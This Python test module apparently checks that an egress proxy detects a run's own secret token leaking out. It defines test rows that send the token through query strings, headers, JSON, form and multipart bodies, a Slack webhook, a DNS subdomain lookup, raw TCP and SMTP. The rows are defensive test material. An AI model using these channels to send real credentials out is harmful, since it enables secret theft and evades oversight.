"""Secret tokens: rows in which a run's own token turns up where it does not belong. Each gets a run of its own."""

import base64
import json
from collections.abc import Callable
from urllib.parse import urlsplit

from running import Running
from secret_octets import Send, head
from secret_requests import FORM, TEXT, Asked, Secret
from secret_search import fresh
from secret_sender import NOBODYS, PERHAPS

RUN = "run-4f6kq2m7xw"
Make = Callable[[str], Asked]


def token_of_a_run(running: Running) -> Secret:
    """The traffic token of a new run."""
    with running.api() as api:
        made = api.post("/api/runs", json={}).raise_for_status().json()
    return Secret(urlsplit(made["proxy"]["url"]).password or "", fresh().card)


def basic(token: str) -> str:
    return base64.b64encode(f"{RUN}:{token}".encode()).decode()


def report(token: str) -> bytes:
    """What a client library says of a proxy that failed."""
    told = f"Cannot connect to proxy http://{RUN}:{token}@127.0.0.1:8080 (Proxy-Authorization: Basic {basic(token)})"
    return json.dumps({"exception": {"values": [{"type": "ProxyError", "value": told}]}}).encode()


ASKED: dict[str, Make] = {
    "query": lambda token: Asked(target=f"/v1/things?note={token}", method="GET"),
    "path": lambda token: Asked(target=f"/v1/{token}/things", method="GET"),
    "header": lambda token: Asked(headers=(("x-note", f"by {token}"),)),
    "header-basic": lambda token: Asked(headers=(("x-upstream-headers", f"[{basic(token)}]"),)),
    "json": lambda token: Asked(body=json.dumps({"note": token}).encode()),
    "json-basic": lambda token: Asked(body=json.dumps({"seen": basic(token)}).encode()),
    "report": lambda token: Asked(body=report(token)),
    "report-in-a-form": lambda token: Asked(body=b"payload=" + report(token).replace(b" ", b"+"), kind=FORM),
    "text": lambda token: Asked(body=f"proxy = {token}\n{basic(token)}\n".encode(), kind=TEXT),
    "multipart": lambda token: Asked(
        body=f'--XX\r\nContent-Disposition: form-data; name="log"\r\n\r\n{basic(token)} {token}\r\n--XX--\r\n'.encode(),
        kind="multipart/form-data; boundary=XX",
    ),
    "chat": lambda token: Asked(
        target="/services/T00/B00/abcdefghijkl",
        host="hooks.slack.com",
        body=json.dumps({"text": f"it failed: http://{RUN}:{token}@127.0.0.1:8080 {basic(token)}"}).encode(),
    ),
}
ROWS: dict[str, Send] = {
    **{f"token-{name}-door": lambda by, it, make=make: by.ask(make(it.core), NOBODYS) for name, make in ASKED.items()},  # type: ignore[misc]  # a default stands for the loop's value
    **{f"token-{name}-mitm": lambda by, it, make=make: by.ask(make(it.core), PERHAPS) for name, make in ASKED.items()},  # type: ignore[misc]  # the same
    "token-host": lambda by, it: by.plain("http", head(f"{it.core}.partner.example", "Content-Length: 0")),
    "token-dns": lambda by, it: by.look_up(f"{it.core}.partner.example"),
    "token-no-http": lambda by, it: by.octets(f"LOG {it.core} {basic(it.core)}\r\n".encode(), port=5140, tls=False),
    "token-smtp": lambda by, it: by.dialogue(f"EHLO {it.core}", f"NOOP {basic(it.core)}", f"VRFY {it.core}"),
}
